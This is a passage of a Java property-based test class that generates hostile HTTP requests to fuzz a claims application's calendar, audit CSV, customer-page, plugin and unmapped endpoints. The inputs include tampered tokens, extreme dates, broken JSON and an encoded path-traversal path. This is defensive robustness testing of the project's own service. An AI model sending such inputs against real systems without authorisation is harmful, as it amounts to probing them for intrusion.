    Arbitrary<Hostile> zone = user().map(user -> new Hostile("calendar", "GET", "/api/calendar", Map.of(), null, null, user, false, false));
    Arbitrary<Hostile> holidays = Combinators.combine(query("year"), user())
        .as((q, user) -> new Hostile("calendar", "GET", "/api/calendar/holidays", q, null, null, user, false, false));
    Arbitrary<Hostile> change = Combinators.combine(Arbitraries.of("PUT", "DELETE"), hostileText().filter(t -> !t.isEmpty()),
            reasonBody("name"), contentType("application/json"), Arbitraries.of("admin", "fabrikam-admin"))
        .as((method, date, body, type, user) -> new Hostile("calendar", method, "/api/calendar/holidays/" + segment(date), Map.of(),
            type, body, user, false, false));
    return Arbitraries.frequencyOf(Tuple.of(1, zone), Tuple.of(2, holidays), Tuple.of(2, change));
  }

  private Arbitrary<Hostile> auditCsv() {
    Arbitrary<String> user = Arbitraries.frequency(Tuple.of(4, "auditor"), Tuple.of(1, "admin"), Tuple.of(1, "fabrikam-admin"));
    // dates at the ends of what java.time can hold, alone, so that no other parameter is refused first
    Arbitrary<Map<String, String>> extreme = Combinators.combine(Arbitraries.of("from", "to"),
        Arbitraries.of("+999999999-12-31", "-999999999-01-01", "9999-12-31", "0000-01-01")).as(Map::of);
    Arbitrary<Map<String, String>> dates = Arbitraries.frequencyOf(Tuple.of(4, query("from", "to")), Tuple.of(1, extreme));
    return Combinators.combine(dates, user)
        .as((q, u) -> new Hostile("audit csv", "GET", "/api/audit/claims.csv", q, null, null, u, false, false));
  }

  private Arbitrary<Hostile> customerPages() {
    Arbitrary<String> token = Arbitraries.frequencyOf(
        Tuple.of(2, Arbitraries.create(() -> fixture.customerToken())),
        Tuple.of(2, Arbitraries.integers().between(0, 40).map(cut -> {
          String good = fixture.customerToken();
          return good.substring(0, Math.max(0, good.length() - cut)) + (cut % 3 == 0 ? "A" : "");
        })),
        Tuple.of(4, hostileText().filter(t -> !t.isEmpty())));
    Arbitrary<String> page = Arbitraries.of("", "/decline", "/decline");
    Arbitrary<String> method = Arbitraries.of("GET", "GET", "POST", "PUT");
    return Combinators.combine(token, page, method, query("lang"), Arbitraries.of(true, true, false))
        .as((t, p, m, q, withCsrf) -> new Hostile("customer page", m, "/customer/associations/" + segment(t) + p, q,
            "POST".equals(m) ? "application/x-www-form-urlencoded" : null, null, ANONYMOUS, false, withCsrf));
  }

  private Arbitrary<Hostile> plugin() {
    Arbitrary<String> user = Arbitraries.frequency(Tuple.of(8, "auditor"), Tuple.of(1, ANONYMOUS));
    Arbitrary<Hostile> search = Combinators.combine(query("claimId", "partnerId", "tenantId", "outcome", "from", "to", "page", "size"), user)
        .as((q, u) -> new Hostile("plugin search", "GET", PLUGIN, q, null, null, u, true, false));
    Arbitrary<Hostile> claim = Combinators.combine(claimId(), user)
        .as((id, u) -> new Hostile("plugin claim", "GET", PLUGIN + "/" + segment(id), Map.of(), null, null, u, true, false));
    Arbitrary<Hostile> statistics = user.map(u -> new Hostile("plugin statistics", "GET", PLUGIN + "/statistics", Map.of(), null, null, u,
        true, false));
    return Arbitraries.frequencyOf(Tuple.of(5, search), Tuple.of(3, claim), Tuple.of(1, statistics));
  }

  /** Methods nobody maps, paths nobody serves, bodies where none belong. */
  private Arbitrary<Hostile> oddRequests() {
    Arbitrary<String> path = Arbitraries.of("/api/claims", "/api/claims/x", "/api/poe", "/api/associations", "/api/calendar",
        "/api/audit/claims.csv", "/api/nothing-here", "/api", "/api/", "/api/claims/x/y/z", "/api/claims/%2e%2e/poe");
    Arbitrary<String> method = Arbitraries.of("PATCH", "PUT", "DELETE", "OPTIONS", "HEAD", "TRACE", "GET", "POST");
    return Combinators.combine(path, method, contentType("application/json"), brokenJson(), user())
        .as((p, m, type, body, user) -> new Hostile("odd requests", m, p, Map.of(), type, "GET".equals(m) || "HEAD".equals(m) ? null : body,
            user, false, false));
  }
}
